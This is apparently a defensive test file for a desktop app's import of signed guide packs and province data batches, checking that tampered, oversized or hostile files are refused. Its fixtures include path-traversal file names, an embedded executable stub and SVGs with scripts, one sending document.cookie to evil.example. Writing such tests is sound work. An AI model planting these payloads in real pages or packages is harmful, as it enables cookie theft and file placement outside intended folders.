import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PACK_LIMITS } from '#shared/guides/pack-format';
import { buildPackFile, generatePackKeys } from '#core/guides/pack-file';
import { testSource } from '#core/guides/test-packs';
import { openTestApp, signInAs, testClock } from '#core/testing';
import { ingestBatch } from '#province/ingest';
import { generateProvinceKeys } from '#province/keys';
import { openProvinceStore, type ProvinceDb } from '#province/store';
import { enrolPointOf } from '#province/testing';
import { databaseChecksum } from '../support/checksum';

/**
 * Files that arrive on a USB stick are the least trusted input: content packs at the point,
 * batches at the province (backups: electron/core/backups/backups.test.ts). Truncated,
 * oversized, paths escaping their folder, wrong signatures: refused with a clear error, and
 * nothing changed, neither in the database nor in the data folder.
 */
function folderState(dir: string): string {
  const hash = createHash('sha256');
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const path = join(d, name);
      const stat = statSync(path);
      if (stat.isDirectory()) walk(path);
      // The database is compared row by row; its WAL grows with reads of the page cache too.
      else if (!/\.sqlite3(-wal|-shm)?$/.test(name)) hash.update(`${path}:${stat.size}:${stat.mtimeMs}\n`);
    }
  };
  walk(dir);
  return hash.digest('hex');
}

function tamper(file: Buffer, edit: (archive: any) => void): Buffer {
  const archive = JSON.parse(file.toString('utf8'));
  edit(archive);
  return Buffer.from(JSON.stringify(archive));
}

describe('hostile guide packs, through the gate', () => {
  let app: Awaited<ReturnType<typeof openTestApp>>;
  let admin: Awaited<ReturnType<typeof signInAs>>;
  const keys = generatePackKeys();
  let good: Buffer;
  beforeAll(async () => {
    app = await openTestApp();
    admin = await signInAs(app, 'admin');
    await app.invoke('guides.addKey', { label: 'Sở Khoa học và Công nghệ', publicKeyPem: keys.publicPem }, admin);
    good = buildPackFile(testSource({ packVersion: 1000 }), keys.privatePem);
  });
  afterAll(() => app.cleanup());

  const svgOf = (file: Buffer) => Object.keys(JSON.parse(file.toString('utf8')).files).find((p) => p.endsWith('.svg'))!;
  const cases: Record<string, () => Buffer> = {
    'not a pack at all': () => Buffer.from('PK\u0003\u0004 this is a zip of photos'),
    truncated: () => good.subarray(0, Math.floor(good.length * 0.7)),
    'signed by an unknown key': () => buildPackFile(testSource({ packVersion: 1001 }), generatePackKeys().privatePem),
    'a picture changed after signing': () =>
      tamper(
        good,
        (a) => (a.files[svgOf(good)] = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64')),
      ),
    'a path escaping the guide folder': () =>
      tamper(good, (a) => (a.files['../../../startup/evil.svg'] = 'PHN2Zz48L3N2Zz4=')),
    'an absolute path': () => tamper(good, (a) => (a.files['/etc/cron.d/evil.json'] = 'e30=')),
    'a program inside': () => tamper(good, (a) => (a.files['vneid-level-1/setup.exe'] = 'TVqQAAMAAAAEAAAA')),
    // Signed and listed, referred to by no guide, still served under /packs/: checked all the same.
    'an unsafe picture no guide refers to': () =>
      buildPackFile(
        testSource({ packVersion: 1002 }, (files) => {
          files.set(
            'vneid-level-1/unused.svg',
            Buffer.from(
              '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>',
            ),
          );
        }),
        keys.privatePem,
      ),
    'a picture with a namespaced script': () =>
      buildPackFile(
        testSource({ packVersion: 1003 }, (files) => {
          files.set(
            'vneid-level-1/ns.svg',
            Buffer.from(
              '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
            ),
          );
        }),
        keys.privatePem,
      ),
    // JSON allows trailing spaces: only the size limit can refuse this one.
    'one byte over the size limit': () =>
      Buffer.concat([good, Buffer.alloc(PACK_LIMITS.fileBytes + 1 - good.length, 32)]),
  };
  for (const [name, make] of Object.entries(cases)) {
    it(name, async () => {
      const before = await databaseChecksum(app.db);
      const files = folderState(app.dataDir);
      const res = await app.call(
        'guides.importPack',
        { fileName: `${name}.dhspack`, base64: make().toString('base64') },
        admin,
      );
      expect(res.ok).toBe(false);
      if (!res.ok) {
        expect(res.status).toBeGreaterThanOrEqual(400);
        expect(res.status).toBeLessThan(500);
        expect(res.error.message.vi).toMatch(/\S/);
      }
      expect(await databaseChecksum(app.db)).toBe(before);
      expect(folderState(app.dataDir)).toBe(files);
      if (!res.ok && /unsafe picture|namespaced/.test(name)) expect(res.error.params?.reason).toBe('unsafe_svg');
    });
  }
  it('the good pack itself is accepted (so the refusals above are about the damage)', async () => {
    expect(
      (await app.call('guides.importPack', { fileName: 'good.dhspack', base64: good.toString('base64') }, admin)).ok,
    ).toBe(true);
  });
});

describe('hostile batches at the province', () => {
  let point: Awaited<ReturnType<typeof openTestApp>>;
  const province = generateProvinceKeys();
  let store: ProvinceDb;
  let dir: string;
  let first: string;
  beforeAll(async () => {
    // One real batch from one day's work at a point: a ticket served, the day closed by the
    // official. The point runs on a clock of its own, so the real hour does not matter.
    const clock = testClock('2026-11-02T02:00:00.000Z');
    point = await openTestApp({ now: clock.now });
    const admin = await signInAs(point, 'admin');
    await point.invoke('uploads.setProvince', { keyText: province.publicText }, admin);
    await point.invoke('queue.checkIn', { helpKind: 'vneid' }, { device: 'kiosk' });
    const member = await signInAs(point, 'duty_member');
    await point.invoke('queue.openDesk', { desk: 1, takeOver: true }, member);
    const ticket = await point.invoke('queue.callNext', {}, member);
    await point.invoke('queue.finish', { ticketId: ticket!.id, outcome: 'guided_only' }, member);
    clock.set('2026-11-02T10:05:00.000Z');
    await point.invoke('logbook.closeDay', { day: '2026-11-02' }, await signInAs(point, 'commune_official'));
    first = (await point.db.selectFrom('upload_batch').select('content').orderBy('seq').executeTakeFirstOrThrow())
      .content;
    dir = mkdtempSync(join(tmpdir(), 'dhs-hostile-province-'));
    store = await openProvinceStore(join(dir, 'province.sqlite3'));
    await enrolPointOf(store, point.db);
  }, 60_000);
  afterAll(async () => {
    await store?.destroy();
    await point?.cleanup();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** What counts: points, batches and records; the log of arrivals is meant to grow. */
  const stored = () => databaseChecksum(store, { skip: ['intake'] });
  const edit = (change: (file: any) => void) => {
    const file = JSON.parse(first);
    change(file);
    return JSON.stringify(file);
  };
  const cases: Record<string, () => string> = {
    'not JSON': () => 'Batch from commune; see attachment',
    truncated: () => first.slice(0, Math.floor(first.length / 2)),
    'records changed after signing': () => edit((f) => f.batch.records.push(structuredClone(f.batch.records[0]))),
    'number changed after signing': () => edit((f) => (f.batch.seq = 99)),
    'an unsigned member beside the batch': () => edit((f) => (f.zz = 'unsigned')),
    'laid out differently from what was signed': () => JSON.stringify(JSON.parse(first), null, 2),
    'signature of someone else': () => edit((f) => (f.signature = Buffer.alloc(64, 7).toString('base64'))),
  };
  for (const [name, make] of Object.entries(cases)) {
    it(name, async () => {
      const before = await stored();
      const outcome = await ingestBatch(store, make(), province.secret, new Date(), `../../${name}.dhsbatch`);
      expect(outcome.status).toBe('refused');
      expect(await stored()).toBe(before);
    });
  }
  it('oversized (80 MB of padding around a signed batch): refused before it is stored', async () => {
    // A store of its own, so that if this were accepted the other cases would not turn into duplicates.
    const own = await openProvinceStore(join(dir, 'oversized.sqlite3'));
    try {
      const before = await databaseChecksum(own, { skip: ['intake'] });
      const padded = first.replace(/}\s*$/, `, "padding": "${'x'.repeat(80 * 1024 * 1024)}"}`);
      expect((await ingestBatch(own, padded, province.secret, new Date(), 'big.dhsbatch')).status).toBe('refused');
      expect(await databaseChecksum(own, { skip: ['intake'] })).toBe(before);
    } finally {
      await own.destroy();
    }
  });
  it('sealed for another province: refused', async () => {
    const before = await stored();
    const outcome = await ingestBatch(store, first, generateProvinceKeys().secret, new Date(), 'other.dhsbatch');
    expect(outcome.status).toBe('refused');
    expect(await stored()).toBe(before);
  });
  it('the untouched batch is accepted (so the refusals above are about the damage)', async () => {
    expect((await ingestBatch(store, first, province.secret, new Date(), 'good.dhsbatch')).status).toBe('accepted');
  });
});
